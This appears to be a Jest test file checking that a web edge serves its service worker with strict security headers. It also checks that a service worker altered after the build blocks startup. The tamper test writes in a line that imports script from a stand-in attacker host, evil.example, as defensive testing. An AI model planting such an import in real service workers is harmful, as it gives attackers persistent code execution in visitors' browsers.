import { afterEach, beforeEach, expect, it } from '@jest/globals'
import { Site } from '../testing/site.ts'

let site: Site

beforeEach(async () => {
  site = await Site.open()
})
afterEach(() => site.close())

it('is answered at the root, by the build of this edge, and never kept unasked', async () => {
  await site.start()
  const { status, body, headers } = await site.get('/service-worker.js')
  expect([status, body]).toEqual([200, "self.addEventListener('push', () => undefined)"])
  expect(headers).toMatchObject({
    'content-type': 'text/javascript; charset=utf-8',
    'cache-control': 'no-cache',
    'service-worker-allowed': '/',
    'content-security-policy':
      "default-src 'none'; connect-src 'self'; img-src 'self'; require-trusted-types-for 'script'",
  })
  expect(String((await site.get('/')).headers['content-security-policy'])).toContain(
    "worker-src 'self'",
  )
})

it('that was changed after the build stops the edge from starting', async () => {
  await site.start()
  await site.edge.close()
  await site.writeShellFile('../worker/service-worker.js', 'importScripts("https://evil.example")')
  await expect(site.start()).rejects.toThrow('service-worker.js')
})
